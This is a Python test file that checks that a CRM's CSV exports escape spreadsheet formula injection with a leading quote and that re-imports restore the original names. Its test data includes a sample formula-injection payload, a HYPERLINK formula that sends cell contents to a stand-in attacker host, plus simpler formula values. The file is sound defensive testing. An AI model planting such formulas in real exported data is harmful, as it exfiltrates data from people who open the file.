"""CSV exports are safe to open in a spreadsheet, and still import back to the same data
(issue 10, item 13: a web-chat visitor named `=HYPERLINK(...)` became a live formula).

OWASP's advice: a cell starting with =, +, -, @, a tab or a carriage return gets a leading
single quote. A text starting with the quote gets one too, so import removes exactly one.
"""

from __future__ import annotations

from typing import Any

import httpx
import pytest
from tests.dataport.support import csv_rows, jsonl, jsonl_rows, make_zip, owner, read_zip
from tests.dataport.test_import import export, upload

from intuitivus_flow.dataport import codec
from intuitivus_flow.dataport.registry import BY_NAME

# Each name as stored, and as the CSV cell must hold it.
NAMES = {
    '=HYPERLINK("https://evil.example/?"&A1,"Click")': '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "'quoted": "''quoted",
    "''twice": "'''twice",
    "'": "''",
    "Ana = Bob": "Ana = Bob",  # only the first character matters
    "plain": "plain",
}


def test_formula_texts_get_a_quote_and_others_are_left_alone() -> None:
    spec = BY_NAME["contacts"]
    rows = [
        {name: (text if name == "name" else None) for name in spec.fields} | {"attributes": {}}
        for text in NAMES
    ]
    cells = [row["name"] for row in csv_rows(codec.csv_header(spec) + codec.csv_lines(spec, rows))]
    assert cells == list(NAMES.values())


def test_numbers_and_json_are_not_texts() -> None:
    # A negative number is a number to a spreadsheet too; JSON starts with { or [.
    spec = BY_NAME["campaign_reports"]
    row = dict.fromkeys(spec.fields) | {"spend_minor": -5, "revenue_minor": 0}
    cells = csv_rows(codec.csv_header(spec) + codec.csv_lines(spec, [row]))[0]
    assert cells["spend_minor"] == "-5"


@pytest.mark.parametrize("entity_only", [False, True])
async def test_export_escapes_and_import_restores(
    app: Any, client: httpx.AsyncClient, entity_only: bool
) -> None:
    acme = await owner(client)
    contacts = [{"name": name, "email": None} for name in NAMES]
    seeded = await upload(client, acme.headers, make_zip({"contacts.jsonl": jsonl(*contacts)}))
    assert seeded.status_code == 200, seeded.text
    if entity_only:  # one entity's bare CSV, re-zipped by the user
        single = await export(client, acme.headers, format="csv", entity="contacts")
        archive = make_zip({"contacts.csv": single})
    else:
        archive = await export(client, acme.headers, format="csv")
    cells = sorted(row["name"] for row in csv_rows(read_zip(archive)["contacts.csv"]))
    assert cells == sorted(NAMES.values())
    copy = await owner(client, "Copy")
    imported = await upload(client, copy.headers, archive)
    assert imported.status_code == 200, imported.text
    names = [
        row["name"] for row in jsonl_rows(read_zip(await export(client, copy.headers)), "contacts")
    ]
    assert sorted(names) == sorted(NAMES)


async def test_json_lines_exports_are_unchanged(client: httpx.AsyncClient) -> None:
    acme = await owner(client)
    await upload(client, acme.headers, make_zip({"contacts.jsonl": jsonl({"name": "=1+1"})}))
    rows = jsonl_rows(read_zip(await export(client, acme.headers)), "contacts")
    assert [row["name"] for row in rows] == ["=1+1"]
